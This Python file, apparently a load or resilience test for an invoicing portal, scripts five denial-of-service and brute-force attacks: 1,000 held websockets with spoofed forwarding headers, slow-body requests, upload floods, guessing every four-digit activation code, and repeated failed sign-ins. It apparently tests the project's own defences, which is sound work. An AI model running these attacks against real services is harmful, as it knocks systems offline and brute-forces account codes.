"""What one person with a computer does to stop the portal: each attack begins again until it is stopped."""

import asyncio
import contextlib
import uuid
from collections.abc import Awaitable, Callable, Coroutine, Mapping
from dataclasses import dataclass
from typing import Any, Final

import httpx
from websockets.asyncio.client import connect

from benchmarks.uploads import a_slow_pdf
from espace_factures import routes

SOCKETS, BODIES, UPLOADS, CODES, SIGN_INS = 1_000, 400, 104, 10_000, 101
NETWORKS: Final = 4
"""The sockets come from so many: one network alone may not have them all."""
AT_ONCE: Final = 16
BESIEGER: Final = "203.0.113.9"
LONG: Final = 10_000
"""A body that is announced, and never comes whole."""


@dataclass(frozen=True, slots=True)
class Target:
    """The server besieged, and the session of an account that attacks from inside."""

    url: str
    port: int
    cookie: str
    ticket: str
    """That of a page which waits for a code."""

    def client(self, **headers: str) -> httpx.AsyncClient:
        """A client at the besieger's address."""
        own = {"Origin": self.url, "X-Forwarded-For": BESIEGER} | headers
        limits = httpx.Limits(max_connections=UPLOADS)
        return httpx.AsyncClient(base_url=self.url, headers=own, limits=limits, timeout=120)


Guess = Callable[[Target, httpx.AsyncClient, int], Awaitable[None]]
Attack = Callable[[Target, Any], Coroutine[Any, Any, None]]


def run(attack: Attack, target: Target, made: Any) -> None:
    """In a process of its own; `made` counts."""
    asyncio.run(attack(target, made))


async def sockets(target: Target, made: Any) -> None:
    """Opened one after the other, then held."""
    held = []
    for number in range(SOCKETS):
        address = f"{target.url.replace('http', 'ws')}/_event/?token={uuid.uuid4()}&EIO=4&transport=websocket"
        headers = {"Origin": target.url, "X-Forwarded-For": f"203.0.113.{number % NETWORKS}"}
        held.append(await connect(address, additional_headers=headers, open_timeout=60))
        made.value = len(held)
    await asyncio.Event().wait()


async def slow_bodies(target: Target, made: Any) -> None:
    """A letter a second each, and again once cut."""
    await asyncio.gather(*(_slow_body(target, made) for _ in range(BODIES)))


async def uploads(target: Target, made: Any) -> None:
    """Files that take the reader to its limit of time, all at once, wave after wave."""
    content = a_slow_pdf()

    async def once(client: httpx.AsyncClient) -> None:
        await client.post(routes.POST_DRAFT_FILE, files={"fichier": ("facture.pdf", content, "application/pdf")})
        made.value += 1

    async with target.client(Cookie=target.cookie) as client:
        while True:
            await asyncio.gather(*(once(client) for _ in range(UPLOADS)), return_exceptions=True)


async def codes(target: Target, made: Any) -> None:
    """Every code of four digits, on the ticket of a page."""
    await _many(target, made, CODES, _guess)


async def sign_ins(target: Target, made: Any) -> None:
    """As many wrong passwords as a network may try, and one more; then again."""
    while True:
        await _many(target, made, SIGN_INS, _wrong_password)


async def _slow_body(target: Target, made: Any) -> None:
    head = (
        f"POST {routes.POST_SIGN_IN} HTTP/1.1\r\nHost: localhost:{target.port}\r\nOrigin: {target.url}\r\n"
        f"X-Forwarded-For: {BESIEGER}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        f"Content-Length: {LONG}\r\n\r\n"
    )
    while True:
        with contextlib.suppress(OSError):
            _, writer = await asyncio.open_connection("127.0.0.1", target.port)
            writer.write(head.encode())
            made.value += 1
            while not writer.is_closing():
                writer.write(b"a")
                await writer.drain()
                await asyncio.sleep(1)


async def _many(target: Target, made: Any, most: int, once: Guess) -> None:
    turn = iter(range(most))

    async def in_turn(client: httpx.AsyncClient) -> None:
        for at in turn:
            await once(target, client, at)
            made.value += 1

    async with target.client() as client:
        await asyncio.gather(*(in_turn(client) for _ in range(AT_ONCE)))


async def _guess(target: Target, client: httpx.AsyncClient, at: int) -> None:
    await client.post(routes.POST_ACTIVATION, data={"code": f"{at:04}", "demande": target.ticket})


async def _wrong_password(_target: Target, client: httpx.AsyncClient, at: int) -> None:
    await client.post(routes.POST_SIGN_IN, data={"email": f"person{at}@exemple.nc", "password": "not theirs, a guess"})


ATTACKS: Final[Mapping[str, Attack]] = {
    "1 000 sockets": sockets,
    "400 slow bodies": slow_bodies,
    "104 uploads at once": uploads,
    "10 000 codes": codes,
    "101 bad sign-ins, again and again": sign_ins,
}
